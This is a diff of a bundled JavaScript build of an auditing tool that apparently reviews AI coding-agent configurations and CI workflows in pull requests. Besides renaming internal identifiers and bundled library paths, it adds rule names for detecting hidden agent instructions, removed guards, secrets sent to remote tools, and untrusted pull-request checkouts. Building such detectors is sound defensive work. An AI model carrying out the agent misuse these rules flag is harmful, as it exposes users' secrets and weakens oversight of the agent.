+        yield { path: place.path, line: place.line, message, scope: `job ${job.name}`, remedy: workflow_untrusted_checkout_REMEDY };
+    }
+}
+/** Where a step takes the head of a pull request; null when it does not. */
+function headCheckout(step, context) {
+    if (step.uses !== null && step.uses.text.startsWith('actions/checkout@')) {
+        const from = step.inputs.find(({ key, text }) => /^(?:ref|repository)$/.test(key) && workflow_untrusted_checkout_HEAD.test(text));
+        return from?.place ?? null;
+    }
+    const found = step.run === null ? null : FETCH.exec(step.run.text)?.[0];
+    if (step.run === null || found === undefined || found === null)
+        return null;
+    return placeInRun(context, step.run, found.split('\n', 1)[0] ?? '');
+}
+
 ;// CONCATENATED MODULE: ./build/audit/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
 
 
 
@@ -24929,13 +31429,83 @@ const policyExpired = {
 
 /** Every rule, in alphabetical order of its id. */
 const RULES = [
+    agentChangedWithoutEvals,
+    agentHiddenInstructions,
+    agentRemovedGuard,
+    agentShadowsBuiltin,
+    agentWidensGlobal,
+    askWhenUnattended,
+    assetsWithoutOwner,
+    bareCommandPattern,
+    bashDefeatsEditDeny,
+    bashDenyList,
+    bashMapWithoutStar,
+    bashPatternEscapes,
     bashUnrestricted,
+    commandAgentMissing,
+    commandShell,
     configInvalid,
+    configUnknownKey,
+    dependenciesInOpencodeDir,
+    doomLoopOpen,
     editInReviewer,
+    enterpriseUrl,
+    envGuardRemoved,
+    externalDirectoryOpen,
+    formatterOrLspCommand,
+    frontmatterExecutes,
+    frontmatterFailsOpen,
+    globalLoosensBuiltin,
+    instructionsChanged,
+    instructionsRemote,
+    legacyTools,
+    mcpAdded,
+    mcpChanged,
+    mcpCredentialScope,
+    mcpEnvToRemote,
+    mcpRemotePlain,
+    mcpRemoteUnlisted,
+    mcpSecretInline,
+    mcpShell,
+    mcpToolsOpen,
+    mcpUnapproved,
     mcpUnpinned,
+    modelChanged,
+    permissionAboveCeiling,
     permissionAllowAll,
+    permissionMissing,
+    permissionUnknownKey,
+    permissionWidened,
+    pluginAdded,
     pluginLocalCode,
+    pluginUnapproved,
+    pluginUnpinned,
+    policyChanged,
     policyExpired,
+    providerCode,
+    providerRedirect,
+    readWithoutEnvDeny,
+    referencesRemote,
+    ruleDead,
+    ruleShadowed,
+    secretInAsset,
+    secretInChange,
+    shareEnabled,
+    shellOverride,
+    skillDescriptionChanged,
+    skillsRemote,
+    substitutionSyntax,
+    substitutionToRemote,
+    taskEscalates,
+    telemetryExport,
+    toolLocalCode,
+    toolShadowsBuiltin,
+    v2PermissionsIgnored,
+    webfetchWithSecrets,
+    workflowAutoApprove,
+    workflowOpencodeUnpinned,
+    workflowSecretsBesideAgent,
+    workflowUntrustedCheckout,
 ];
 
 ;// CONCATENATED MODULE: ./build/cli/version.js
@@ -24945,16 +31515,16 @@ const VERSION = '0.1.0';
 ;// CONCATENATED MODULE: ./build/sarif-settings.js
 
 
-const HOME = 'https://github.com/opencode-review-gate/opencode-review-gate';
+const sarif_settings_HOME = 'https://github.com/opencode-review-gate/opencode-review-gate';
 /** What SARIF says about its maker and its rules; each rule's help is its page. */
 const SARIF = {
     version: VERSION,
-    informationUri: HOME,
+    informationUri: sarif_settings_HOME,
     ruleText: (id) => {
         const rule = RULES.find((candidate) => candidate.id === id);
         if (rule === undefined)
             return undefined;
-        const helpUri = `${HOME}/blob/main/docs/rules/${id}.md`;
+        const helpUri = `${sarif_settings_HOME}/blob/main/docs/rules/${id}.md`;
         return { title: rule.title, description: rule.summary, help: `${rule.summary} See ${helpUri}`, helpUri };
     },
 };
@@ -25248,7 +31818,7 @@ function objectParser(limit) {
             rest = take(pending, rest, limit);
             if (pending.left > 0)
                 return;
-            yield { id: pending.id, size: pending.size, bytes: joined(pending.parts) };
+            yield { id: pending.id, size: pending.size, bytes: objects_joined(pending.parts) };
             pending = null;
         }
     };
@@ -25272,7 +31842,7 @@ function take(pending, chunk, limit) {
     pending.left -= part.length;
     return chunk.subarray(part.length);
 }
-function joined(parts) {
+function objects_joined(parts) {
     const [only] = parts;
     return parts.length === 1 && only ? only : Buffer.concat(parts);
 }
@@ -25603,7 +32173,7 @@ function chooseFiles(tree, change) {
     const ordered = groups.flat();
     leftOut.push(...ordered.slice(MAX_FILES).map(({ path }) => ({ path, why: TOO_MANY })));
     return {
-        ...named(ordered.slice(0, MAX_FILES), changed, leftOut),
+        ...choose_files_named(ordered.slice(0, MAX_FILES), changed, leftOut),
         near: ordered.length - (groups[2]?.length ?? 0),
     };
 }
@@ -25620,7 +32190,7 @@ function mediaOrNull(path) {
 function folderOf(path) {
     return path.slice(0, path.lastIndexOf('/') + 1);
 }
-function named(entries, changed, leftOut) {
+function choose_files_named(entries, changed, leftOut) {
     const names = nameView(entries.map(({ path }) => path));
     const nameOf = (entry) => names.get(entry.path) ?? null;
     const files = entries.flatMap((entry) => {
@@ -25641,28 +32211,28 @@ function plainFolder(directory) {
     function makeFolder(name) {
         if (name === '.' || known.has(name))
             return;
-        makeFolder((0,external_node_path_namespaceObject.dirname)(name));
-        const place = (0,external_node_path_namespaceObject.join)(directory, name);
-        (0,external_node_fs_namespaceObject.mkdirSync)(place);
+        makeFolder((0,external_node_path_.dirname)(name));
+        const place = (0,external_node_path_.join)(directory, name);
+        (0,external_node_fs_.mkdirSync)(place);
         // The umask of whoever started us must not keep the sandbox's user out.
-        (0,external_node_fs_namespaceObject.chmodSync)(place, 0o755);
+        (0,external_node_fs_.chmodSync)(place, 0o755);
         known.add(name);
     }
     return {
         add(name, bytes) {
-            makeFolder((0,external_node_path_namespaceObject.dirname)(name));
-            const file = (0,external_node_fs_namespaceObject.openSync)((0,external_node_path_namespaceObject.join)(directory, name), NEW_FILE, 0o444);
+            makeFolder((0,external_node_path_.dirname)(name));
+            const file = (0,external_node_fs_.openSync)((0,external_node_path_.join)(directory, name), NEW_FILE, 0o444);
             try {
-                (0,external_node_fs_namespaceObject.writeFileSync)(file, bytes);
-                (0,external_node_fs_namespaceObject.fchmodSync)(file, 0o444);
+                (0,external_node_fs_.writeFileSync)(file, bytes);
+                (0,external_node_fs_.fchmodSync)(file, 0o444);
             }
             finally {
-                (0,external_node_fs_namespaceObject.closeSync)(file);
+                (0,external_node_fs_.closeSync)(file);
             }
         },
     };
 }
-const NEW_FILE = external_node_fs_namespaceObject.constants.O_WRONLY | external_node_fs_namespaceObject.constants.O_CREAT | external_node_fs_namespaceObject.constants.O_EXCL | external_node_fs_namespaceObject.constants.O_NOFOLLOW;
+const NEW_FILE = external_node_fs_.constants.O_WRONLY | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_EXCL | external_node_fs_.constants.O_NOFOLLOW;
 
 ;// CONCATENATED MODULE: external "node:buffer"
 const external_node_buffer_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:buffer");
@@ -25758,10 +32328,10 @@ function renderSubmodule(commit) {
  */
 async function writeView(store, missing, request) {
     const choice = chooseFiles(request.tree, request.change);
-    const parent = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_namespaceObject.join)(request.temporary, 'review-gate-view-')).catch(cannotWrite);
+    const parent = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_.join)(request.temporary, 'review-gate-view-')).catch(cannotWrite);
     const remove = () => (0,promises_namespaceObject.rm)(parent, { recursive: true, force: true, maxRetries: 3 });
     try {
-        const directory = (0,external_node_path_namespaceObject.join)(parent, 'head');
+        const directory = (0,external_node_path_.join)(parent, 'head');
         await (0,promises_namespaceObject.mkdir)(directory);
         await (0,promises_namespaceObject.chmod)(directory, 0o755);
         const leftOut = await fill(plainFolder(directory), choice, store, missing);
@@ -25833,7 +32403,7 @@ function cannotWrite(cause) {
     });
 }
 
-;// CONCATENATED MODULE: ./node_modules/is-plain-obj/index.js
+;// CONCATENATED MODULE: ../main/node_modules/is-plain-obj/index.js
 function is_plain_obj_isPlainObject(value) {
 	if (typeof value !== 'object' || value === null) {
 		return false;
@@ -25845,7 +32415,7 @@ function is_plain_obj_isPlainObject(value) {
 
 ;// CONCATENATED MODULE: external "node:url"
 const external_node_url_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:url");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/file-url.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/file-url.js
 
 
 // Allow some arguments/options to be either a file path string or a file URL
@@ -25872,7 +32442,7 @@ const isDenoExecPath = file => typeof file !== 'string'
 // Same but also allows other values, e.g. `boolean` for the `shell` option
 const normalizeFileUrl = file => file instanceof URL ? (0,external_node_url_namespaceObject.fileURLToPath)(file) : file;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/parameters.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/parameters.js
 
 
 
@@ -25920,7 +32490,7 @@ const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createReq
 const external_node_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:process");
 ;// CONCATENATED MODULE: external "node:util"
 const external_node_util_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/escape.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/escape.js
 
 
 
@@ -26015,7 +32585,7 @@ const NO_ESCAPE_REGEXP = /^[\w\-./]+$/;
 
 ;// CONCATENATED MODULE: external "node:string_decoder"
 const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/uint-array.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/uint-array.js
 
 
 const {toString: objectToString} = Object.prototype;
@@ -26080,7 +32650,7 @@ const getJoinLength = uint8Arrays => {
 	return joinLength;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/return/final-error.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/return/final-error.js
 // When the subprocess fails, this is the error instance being returned.
 // If another error instance is being thrown, it is kept as `error.cause`.
 const getFinalError = (originalError, message, isSync) => {
@@ -26127,11 +32697,11 @@ class ExecaSyncError extends Error {}
 // eslint-disable-next-line unicorn/no-top-level-side-effects -- `error.name` must be set as soon as the class is defined
 setErrorName(ExecaSyncError, ExecaSyncError.name);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/type-name.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/type-name.js
 // Like `typeof`, but `null` is reported as `null` instead of `object`, so error messages name the actual value
 const getTypeName = value => value === null ? 'null' : typeof value;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/template.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/template.js
 
 
 
@@ -26316,7 +32886,7 @@ const getSubprocessResult = result => {
 	throw new TypeError(`Unexpected "${getTypeName(stdout)}" stdout in template expression`);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/standard-stream.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/standard-stream.js
 
 
 const isStandardStream = stream => STANDARD_STREAMS.includes(stream);
@@ -26330,7 +32900,7 @@ const allStreamSymbol = Symbol('execa.allStream');
 const setAllStream = stream => Object.assign(stream, {[allStreamSymbol]: true});
 const isAllStream = stream => stream?.[allStreamSymbol] === true;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/options.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/options.js
 // The options of methods like `subprocess.pipe()`, `subprocess.readable()` or `sendMessage()` are kept on a null-prototype object, otherwise a polluted `Object.prototype` would inject option values.
 // Like destructuring them, `null` throws.
 const copyOptions = (options = {}) => {
@@ -26347,7 +32917,7 @@ const checkBooleanOption = (value, optionName) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/specific.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/specific.js
 
 
 
@@ -26481,7 +33051,7 @@ const getFdSpecificValue = (optionArray, fdNumber) => fdNumber === 'ipc'
 	? optionArray.at(-1)
 	: optionArray[fdNumber];
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/values.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/values.js
 
 
 // The `verbose` option can have different values for `stdout`/`stderr`
@@ -26516,7 +33086,7 @@ const isVerboseFunction = fdVerbose => typeof fdVerbose === 'function';
 
 const VERBOSE_VALUES = ['none', 'short', 'full'];
 
-;// CONCATENATED MODULE: ./node_modules/is-unicode-supported/index.js
+;// CONCATENATED MODULE: ../main/node_modules/is-unicode-supported/index.js
 
 
 function isUnicodeSupported() {
@@ -26539,7 +33109,7 @@ function isUnicodeSupported() {
 		|| env.TERMINAL_EMULATOR === 'JetBrains-JediTerm';
 }
 
-;// CONCATENATED MODULE: ./node_modules/figures/index.js
+;// CONCATENATED MODULE: ../main/node_modules/figures/index.js
 
 
 const common = {
@@ -26835,7 +33405,7 @@ const replaceSymbols = (string, {useFallback = !shouldUseMain} = {}) => {
 
 ;// CONCATENATED MODULE: external "node:tty"
 const external_node_tty_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:tty");
-;// CONCATENATED MODULE: ./node_modules/yoctocolors/base.js
+;// CONCATENATED MODULE: ../main/node_modules/yoctocolors/base.js
 
 
 // eslint-disable-next-line no-warning-comments
@@ -26955,7 +33525,7 @@ const underlineMagentaBright = format('58;5;13', 59);
 const underlineCyanBright = format('58;5;14', 59);
 const underlineWhiteBright = format('58;5;15', 59);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/default.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/default.js
 
 
 
@@ -27015,7 +33585,7 @@ const COLORS = {
 	duration: () => default_gray,
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/custom.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/custom.js
 
 
 // Apply the `verbose` function on each line
@@ -27043,7 +33613,7 @@ const appendNewline = printedLine => printedLine.endsWith('\n')
 	? printedLine
 	: `${printedLine}\n`;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/log.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/log.js
 
 
 
@@ -27096,7 +33666,7 @@ const serializeVerboseMessage = message => {
 	return escapeLines(messageString);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/start.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/start.js
 
 
 
@@ -27113,7 +33683,7 @@ const logCommand = (escapedCommand, verboseInfo) => {
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/info.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/info.js
 
 
 // Information computed before spawning, used by the `verbose` option
@@ -27154,7 +33724,7 @@ const validateVerbose = verbose => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/return/duration.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/return/duration.js
 
 
 // Start counting time before spawning the subprocess
@@ -27164,7 +33734,7 @@ const getStartTime = () => external_node_process_namespaceObject.hrtime.bigint()
 // Printed by the `verbose` option.
 const getDurationMs = startTime => Number(external_node_process_namespaceObject.hrtime.bigint() - startTime) / 1e6;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/command.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/command.js
 
 
 
@@ -27188,7 +33758,7 @@ const handleCommand = (filePath, rawArguments, rawOptions) => {
 	};
 };
 
-;// CONCATENATED MODULE: ./node_modules/path-key/index.js
+;// CONCATENATED MODULE: ../main/node_modules/path-key/index.js
 function pathKey(options = {}) {
 	const {
 		env = process.env,
@@ -27202,7 +33772,7 @@ function pathKey(options = {}) {
 	return Object.keys(env).reverse().find(key => key.toUpperCase() === 'PATH') || 'Path';
 }
 
-;// CONCATENATED MODULE: ./node_modules/unicorn-magic/node.js
+;// CONCATENATED MODULE: ../main/node_modules/unicorn-magic/node.js
 
 
 
@@ -27221,13 +33791,13 @@ function rootDirectory(pathInput) {
 function traversePathUp(startPath) {
 	return {
 		* [Symbol.iterator]() {
-			let currentPath = external_node_path_namespaceObject.resolve(toPath(startPath));
+			let currentPath = external_node_path_.resolve(toPath(startPath));
 			let previousPath;
 
 			while (previousPath !== currentPath) {
 				yield currentPath;
 				previousPath = currentPath;
-				currentPath = external_node_path_namespaceObject.resolve(currentPath, '..');
+				currentPath = external_node_path_.resolve(currentPath, '..');
 			}
 		},
 	};
@@ -27253,7 +33823,7 @@ function execFileSync(file, arguments_ = [], options = {}) {
 
 
 
-;// CONCATENATED MODULE: ./node_modules/npm-run-path/index.js
+;// CONCATENATED MODULE: ../main/node_modules/npm-run-path/index.js
 
 
 
@@ -27266,9 +33836,9 @@ const npmRunPath = ({
 	execPath = external_node_process_namespaceObject.execPath,
 	addExecPath = true,
 } = {}) => {
-	const cwdPath = external_node_path_namespaceObject.resolve(toPath(cwd));
+	const cwdPath = external_node_path_.resolve(toPath(cwd));
 	const result = [];
-	const pathParts = pathOption.split(external_node_path_namespaceObject.delimiter);
+	const pathParts = pathOption.split(external_node_path_.delimiter);
 
 	if (preferLocal) {
 		applyPreferLocal(result, pathParts, cwdPath);
@@ -27278,14 +33848,14 @@ const npmRunPath = ({
 		applyExecPath(result, pathParts, execPath, cwdPath);
 	}
 
-	return pathOption === '' || pathOption === external_node_path_namespaceObject.delimiter
-		? `${result.join(external_node_path_namespaceObject.delimiter)}${pathOption}`
-		: [...result, pathOption].join(external_node_path_namespaceObject.delimiter);
+	return pathOption === '' || pathOption === external_node_path_.delimiter
+		? `${result.join(external_node_path_.delimiter)}${pathOption}`
+		: [...result, pathOption].join(external_node_path_.delimiter);
 };
 
 const applyPreferLocal = (result, pathParts, cwdPath) => {
 	for (const directory of traversePathUp(cwdPath)) {
-		const pathPart = external_node_path_namespaceObject.join(directory, 'node_modules/.bin');
+		const pathPart = external_node_path_.join(directory, 'node_modules/.bin');
 		if (!pathParts.includes(pathPart)) {
 			result.push(pathPart);
 		}
@@ -27294,7 +33864,7 @@ const applyPreferLocal = (result, pathParts, cwdPath) => {
 
 // Ensure the running `node` binary is used
 const applyExecPath = (result, pathParts, execPath, cwdPath) => {
-	const pathPart = external_node_path_namespaceObject.resolve(cwdPath, toPath(execPath), '..');
+	const pathPart = external_node_path_.resolve(cwdPath, toPath(execPath), '..');
 	if (!pathParts.includes(pathPart)) {
 		result.push(pathPart);
 	}
@@ -27312,7 +33882,7 @@ const npmRunPathEnv = ({env = external_node_process_namespaceObject.env, ...opti
 
 ;// CONCATENATED MODULE: external "node:timers/promises"
 const external_node_timers_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:timers/promises");
-;// CONCATENATED MODULE: ./node_modules/human-signals/build/src/realtime.js
+;// CONCATENATED MODULE: ../main/node_modules/human-signals/build/src/realtime.js
 
 const getRealtimeSignals=()=>{
 const length=SIGRTMAX-SIGRTMIN+1;
@@ -27329,7 +33899,7 @@ standard:"posix"
 
 const SIGRTMIN=34;
 const SIGRTMAX=64;
-;// CONCATENATED MODULE: ./node_modules/human-signals/build/src/core.js
+;// CONCATENATED MODULE: ../main/node_modules/human-signals/build/src/core.js
 
 
 const core_SIGNALS=[
@@ -27603,7 +34173,7 @@ action:"terminate",
 description:"Invalid system call",
 standard:"other"
 }];
-;// CONCATENATED MODULE: ./node_modules/human-signals/build/src/signals.js
+;// CONCATENATED MODULE: ../main/node_modules/human-signals/build/src/signals.js
 
 
 
@@ -27638,7 +34208,7 @@ const supported=constantSignal!==undefined;
 const number=supported?constantSignal:defaultNumber;
 return{name,number,description,supported,action,forced,standard}
 };
-;// CONCATENATED MODULE: ./node_modules/human-signals/build/src/main.js
+;// CONCATENATED MODULE: ../main/node_modules/human-signals/build/src/main.js
 
 
 
@@ -27709,7 +34279,7 @@ return signals.find((signalA)=>signalA.number===number)
 };
 
 const signalsByNumber=getSignalsByNumber();
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/signal.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/signal.js
 
 
 
@@ -27781,7 +34351,7 @@ const getAvailableSignalIntegers = () => [...new Set(Object.values(external_node
 // Human-friendly description of a signal
 const getSignalDescription = signal => signalsByName[signal].description;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/timeout.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/timeout.js
 
 
 
@@ -27816,7 +34386,7 @@ const killAfterTimeout = async (kill, timeout, context, {signal}) => {
 	throw new DiscardedError();
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/kill.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/kill.js
 
 
 
@@ -27911,7 +34481,7 @@ const killOnTimeout = async ({kill, forceKillAfterDelay, context, controllerSign
 
 ;// CONCATENATED MODULE: external "node:events"
 const external_node_events_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/abort-signal.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/abort-signal.js
 
 
 // Combines `util.aborted()` and `events.addAbortListener()`: promise-based and cleaned up with a stop signal
@@ -27928,7 +34498,7 @@ const validateAbortSignal = (signal, optionName) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/cancel.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/cancel.js
 
 
 // Validate the `cancelSignal` option
@@ -27955,7 +34525,7 @@ const terminateOnCancel = async (kill, cancelSignal, context, {signal}) => {
 	throw cancelSignal.reason;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/validation.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/validation.js
 
 
 // Validate the IPC channel is connected before receiving/sending messages
@@ -28079,7 +34649,7 @@ const disconnect = anyProcess => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/deferred.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/deferred.js
 const createDeferred = () => {
 	const methods = {};
 	const promise = new Promise((resolve, reject) => {
@@ -28088,7 +34658,7 @@ const createDeferred = () => {
 	return Object.assign(promise, methods);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/utils/max-listeners.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/utils/max-listeners.js
 
 
 // Temporarily increase the maximum number of listeners on an eventEmitter
@@ -28104,7 +34674,7 @@ const incrementMaxListeners = (eventEmitter, maxListenersIncrement, signal) => {
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/reference.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/reference.js
 // By default, Node.js keeps the subprocess alive while it has a `message` or `disconnect` listener.
 // We replicate the same logic for the events that we proxy.
 // This ensures the subprocess is kept alive while `getOneMessage()` and `getEachMessage()` are ongoing.
@@ -28154,7 +34724,7 @@ const redoAddedReferences = (channel, isSubprocess) => {
 	addReferenceCount(channel);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/incoming.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/incoming.js
 
 
 
@@ -28242,7 +34812,7 @@ const onDisconnect = async ({anyProcess, channel, isSubprocess, ipcEmitter, boun
 
 const INCOMING_MESSAGES = new WeakMap();
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/forward.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/forward.js
 
 
 
@@ -28302,7 +34872,7 @@ const isConnected = anyProcess => {
 		: ipcEmitter.connected;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/strict.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/strict.js
 
 
 
@@ -28433,7 +35003,7 @@ const isStrictRequest = wrappedMessage => wrappedMessage?.type === REQUEST_TYPE
 	&& Number.isInteger(wrappedMessage.id)
 	&& typeof wrappedMessage.hasListeners === 'boolean';
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/outgoing.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/outgoing.js
 
 
 
@@ -28488,7 +35058,7 @@ const getMinListenerCount = anyProcess => getOptions(anyProcess) !== undefined
 
 const getOptions = anyProcess => IPC_SUBPROCESS_OPTIONS.get(anyProcess);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/send.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/send.js
 
 
 
@@ -28581,7 +35151,7 @@ const getSendMethod = anyProcess => {
 
 const PROCESS_SEND_METHODS = new WeakMap();
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/graceful.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/graceful.js
 
 
 
@@ -28657,7 +35227,7 @@ const abortOnDisconnect = () => {
 
 const cancelController = new AbortController();
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/terminate/graceful.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/terminate/graceful.js
 
 
 
@@ -28732,7 +35302,7 @@ const getReason = ({reason}) => {
 	return error;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/node.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/node.js
 
 
 
@@ -28789,7 +35359,7 @@ const handleNodeOption = (file, commandArguments, {
 	}
 
 	const normalizedNodePath = safeNormalizeFileUrl(nodePath, 'The "nodePath" option');
-	const resolvedNodePath = external_node_path_namespaceObject.resolve(cwd, normalizedNodePath);
+	const resolvedNodePath = external_node_path_.resolve(cwd, normalizedNodePath);
 	// Use spread (which only copies own properties) to safely get shell without reading polluted prototype
 	const newOptions = {
 		__proto__: null,
@@ -28804,7 +35374,7 @@ const handleNodeOption = (file, commandArguments, {
 		return [file, commandArguments, newOptions];
 	}
 
-	if (external_node_path_namespaceObject.basename(file, '.exe') === 'node') {
+	if (external_node_path_.basename(file, '.exe') === 'node') {
 		throw new TypeError('When the "node" option is true, the first argument does not need to be "node".');
 	}
 
@@ -28827,7 +35397,7 @@ const handleNodeOption = (file, commandArguments, {
 
 ;// CONCATENATED MODULE: external "node:v8"
 const external_node_v8_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:v8");
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/ipc-input.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/ipc-input.js
 
 
 
@@ -28884,7 +35454,7 @@ const sendIpcInput = async (subprocess, ipcInput, ipc) => {
 	}, ipcInput);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/arguments/encoding-option.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/arguments/encoding-option.js
 // Validate `encoding` option
 const validateEncoding = ({encoding}) => {
 	if (ENCODINGS.has(encoding)) {
@@ -28947,7 +35517,7 @@ const ENCODING_ALIASES = {
 
 const serializeEncoding = encoding => typeof encoding === 'string' ? `"${encoding}"` : String(encoding);
 
-;// CONCATENATED MODULE: ./node_modules/which-command/index.js
+;// CONCATENATED MODULE: ../main/node_modules/which-command/index.js
 
 
 
@@ -28978,8 +35548,8 @@ function resolveOptions(command, options) {
 }
 
 function windowsExtensions(command, pathExt) {
-	const extensions = pathExt.split(external_node_path_namespaceObject.delimiter).filter(Boolean);
-	const commandExtension = external_node_path_namespaceObject.extname(command).toLowerCase();
+	const extensions = pathExt.split(external_node_path_.delimiter).filter(Boolean);
+	const commandExtension = external_node_path_.extname(command).toLowerCase();
 
 	// If the command already ends with a known executable extension, also try it verbatim.
 	if (commandExtension !== '' && extensions.some(extension => extension.toLowerCase() === commandExtension)) {
@@ -28993,7 +35563,7 @@ function * candidatePaths(command, {cwd, searchPath, pathExt}) {
 	const extensions = isWindows ? windowsExtensions(command, pathExt) : [''];
 
 	if (separatorPattern.test(command)) {
-		const base = external_node_path_namespaceObject.resolve(cwd, command);
+		const base = external_node_path_.resolve(cwd, command);
 		for (const extension of extensions) {
 			yield base + extension;
 		}
@@ -29004,7 +35574,7 @@ function * candidatePaths(command, {cwd, searchPath, pathExt}) {
 	const directories = [
 		// Windows searches the current directory before `PATH`.
 		...(isWindows ? [cwd] : []),
-		...searchPath.split(external_node_path_namespaceObject.delimiter),
+		...searchPath.split(external_node_path_.delimiter),
 	];
 
 	for (const directory of directories) {
@@ -29016,7 +35586,7 @@ function * candidatePaths(command, {cwd, searchPath, pathExt}) {
 			continue;
 		}
 
-		const base = external_node_path_namespaceObject.resolve(cwd, unquoted, command);
+		const base = external_node_path_.resolve(cwd, unquoted, command);
 		for (const extension of extensions) {
 			yield base + extension;
 		}
@@ -29053,7 +35623,7 @@ async function isExecutable(filePath) {
 function isExecutableSync(filePath) {
 	let stats;
 	try {
-		stats = external_node_fs_namespaceObject.statSync(filePath);
+		stats = external_node_fs_.statSync(filePath);
 	} catch (error) {
 		return isWindows && error.code === 'EACCES';
 	}
@@ -29067,7 +35637,7 @@ function isExecutableSync(filePath) {
 	}
 
 	try {
-		external_node_fs_namespaceObject.accessSync(filePath, external_node_fs_namespaceObject.constants.X_OK);
+		external_node_fs_.accessSync(filePath, external_node_fs_.constants.X_OK);
 		return true;
 	} catch {
 		return false;
